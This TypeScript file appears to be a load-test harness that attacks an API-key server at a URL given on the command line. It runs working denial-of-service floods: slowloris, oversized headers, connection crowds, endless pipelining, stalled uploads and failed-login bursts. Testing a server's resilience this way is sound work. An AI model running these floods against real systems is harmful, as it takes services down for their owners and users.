import { connect, type Socket } from "node:net";
import { constants, setPriority } from "node:os";
import { setTimeout as sleep } from "node:timers/promises";
import type { Flood } from "./attack.ts";

const [url = "", attack = "", milliseconds = "", viewer = "", rate = ""] = process.argv.slice(2);
// What attackers compute must not be taken from the server and its good client, also where `aside` can do nothing.
setPriority(constants.priority.PRIORITY_LOW);
const { hostname, port, host } = new URL(url);
const CROWD = 5_000;
/** Longer than a server takes that still answers. */
const PATIENCE_MS = 1_000;
const MOST_BEHIND_MS = 10;
let attempts = 0;

interface Attackers {
  /** How many attack at a time where no rate is given, each again as soon as its last attempt has ended. */
  readonly atOnce: number;
  readonly attempt: () => Promise<void>;
}

const WRONG_TOKEN = `akp_0000000000_${"A".repeat(49)}`;
const crowd: Socket[] = [];

const FLOODS: Readonly<Record<Flood, Attackers>> = {
  "oversized-headers": {
    atOnce: 8,
    attempt: () => ask(`${GET("/api/keys/get")}X-A: ${"a".repeat(64_000)}\r\n\r\n`, "close"),
  },
  /** All hang up at once, and the next come. */
  "connection-crowds": {
    atOnce: 100,
    attempt: async () => {
      crowd.push(await open());
      if (crowd.length >= CROWD) for (const socket of crowd.splice(0)) socket.destroy();
    },
  },
  /** Requests without an end, until they are cut off. */
  "endless-pipelining": {
    atOnce: 4,
    attempt: async () => {
      const socket = await open();
      socket.resume();
      const requests = `${GET("/api/keys/get")}\r\n`.repeat(500);
      while (socket.writable && (socket.write(requests) || (await heard(socket, "drain"))));
      socket.destroy();
    },
  },
  /** Uploads that announce much and send nothing more. */
  "hanging-uploads": {
    atOnce: 200,
    attempt: async () => {
      const head = `POST /api/upload/create-keys HTTP/1.1\r\nHost: ${host}\r\nContent-Type: application/json\r\n`;
      const socket = await open();
      socket.resume();
      socket.write(`${head}Content-Length: 30000000\r\n\r\n{"jsonData":[`);
      while (!socket.closed) await heard(socket, "close");
    },
  },
  /** Lists that are given up as soon as they come. */
  "list-floods": { atOnce: 20, attempt: () => ask(`${GET("/api/keys")}\r\n`, "data") },
  "viewers-list-floods": {
    atOnce: 20,
    attempt: () => ask(`${GET("/api/keys")}Authorization: Bearer ${viewer}\r\n\r\n`, "data"),
  },
  "failed-logins": {
    atOnce: 8,
    attempt: () => ask(`${GET("/api/keys")}Authorization: Bearer ${WRONG_TOKEN}\r\n\r\n`, "data"),
  },
};

function GET(path: string): string {
  return `GET ${path} HTTP/1.1\r\nHost: ${host}\r\n`;
}

function isFlood(name: string): name is Flood {
  return name in FLOODS;
}

if (attack === "idle-connections") {
  while (crowd.length < CROWD) crowd.push(...(await Promise.all(Array.from({ length: 100 }, open))));
}
// Tells that it has begun, and in the end how often it was tried.
console.log("attacking");
void run(attack);
await sleep(Number(milliseconds));
console.log(attempts);
process.exit();

async function run(name: string): Promise<unknown> {
  if (!isFlood(name)) return name === "slow-loris" ? together(500, drip) : undefined;
  const { atOnce, attempt } = FLOODS[name];
  return rate === "" ? together(atOnce, () => repeatedly(attempt)) : atRate(Number(rate), attempt);
}

async function repeatedly(attempt: () => Promise<void>): Promise<never> {
  while (true) {
    attempts += 1;
    await attempt();
  }
}

/** Whether or not those before have ended. */
async function atRate(perSecond: number, attempt: () => Promise<void>): Promise<never> {
  let dueAt = performance.now();
  while (true) {
    const now = performance.now();
    // What could not be begun in time is left out: all at once it would be another attack.
    dueAt = Math.max(dueAt, now - MOST_BEHIND_MS);
    for (; dueAt <= now; dueAt += 1000 / perSecond) {
      attempts += 1;
      void attempt();
    }
    await sleep(1);
  }
}

/** Headers that never end, a byte at a time. */
async function drip(): Promise<void> {
  const socket = await open();
  socket.write(`${GET("/api/keys/get")}X-A: `);
  attempts += 1;
  while (!socket.destroyed) {
    socket.write("a");
    await sleep(100);
  }
}

/** Hangs up at the event, or when it does not come. */
async function ask(request: string, until: "data" | "close"): Promise<void> {
  const socket = await open();
  if (until === "close") socket.resume();
  socket.write(request);
  await heard(socket, until);
  socket.destroy();
}

function together(count: number, attacker: () => Promise<unknown>): Promise<unknown> {
  return Promise.all(Array.from({ length: count }, attacker));
}

async function open(): Promise<Socket> {
  const socket = connect(Number(port), hostname);
  socket.on("error", () => {});
  await heard(socket, "connect");
  return socket;
}

/** Resolves with true at the event, or when the connection is closed or nothing has come for long. */
function heard(socket: Socket, event: string): Promise<true> {
  return new Promise((resolve) => {
    const end = () => {
      clearTimeout(timer);
      socket.off(event, end).off("close", end);
      resolve(true);
    };
    const timer = setTimeout(end, PATIENCE_MS);
    socket.on(event, end).on("close", end);
  });
}
